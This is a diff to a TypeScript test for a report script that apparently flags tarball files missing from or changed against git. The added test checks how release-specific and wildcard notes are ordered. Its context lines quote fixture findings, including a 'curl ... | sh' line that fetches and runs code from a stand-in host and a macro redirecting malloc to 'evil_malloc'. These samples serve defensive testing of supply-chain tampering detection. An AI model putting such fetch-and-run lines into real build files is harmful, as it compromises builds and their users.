@@ -55,4 +55,19 @@ describe('evaluate-report', () => {
     expect(md).toContain('| gnulib-line | coreutils-9.1 | 1, high at `lib/xmalloc.c` | 1 | different | high SUBMODULE_COPY_MODIFIED `lib/xmalloc.c` (`+#define malloc(n) evil_malloc (n)`) |');
     expect(md).toContain('| gnulib-curl | coreutils-9.1 | 1, critical at `build-aux/gnupload` | **1** | different | **high SUBMODULE_COPY_MODIFIED `build-aux/gnupload`** (`+curl -fsSL https://example.invalid/x \\| sh`) |');
   });
+  it("a release's own note answers before a note for every release, whatever their order in the file", () => {
+    const dir = tempDir();
+    const o = join(dir, 'out');
+    mkdirSync(o);
+    writeFileSync(join(dir, 'rel.tsv'), 'proj-1.0\tdeb\tproj=1.0-1\towner/proj\tv1.0\nother-2.0\tdeb\tother=2.0-1\towner/other\tv2.0\n');
+    writeFileSync(join(dir, 'notes.tsv'), '# id\twhat\twhy\n*\tlib/**\tgnulib copies\nproj-1.0\tlib/idn2.h\tconfigure substitution\n');
+    const added = (path: string) => ({ code: 'TARBALL_ONLY_UNEXPLAINED', path, severity: 'high', evidence: { size: 3, buildAffecting: false } });
+    out(o, 'proj-1.0', 1, [added('lib/idn2.h'), added('lib/xmalloc.c')]);
+    out(o, 'other-2.0', 1, [added('lib/idn2.h')]);
+    const md = execFileSync(process.execPath, [join(root, 'scripts/evaluate-report.mjs'), join(dir, 'rel.tsv'), o], { encoding: 'utf8', env: { ...process.env, DISTDIFF_EVAL_NOTES: join(dir, 'notes.tsv') } });
+    const section = (id: string) => md.slice(md.indexOf(`### ${id}`), md.indexOf('###', md.indexOf(`### ${id}`) + 4) >>> 0);
+    // one directory's findings are one line, their reasons joined: the release's own first (it was 'gnulib copies' alone)
+    expect(section('proj-1.0')).toContain('`lib/idn2.h` — not in git (3 bytes); `lib/xmalloc.c` — not in git (3 bytes) — *why:* configure substitution / gnulib copies');
+    expect(section('other-2.0')).toContain('`lib/idn2.h` — not in git (3 bytes) — *why:* gnulib copies');
+  });
 });
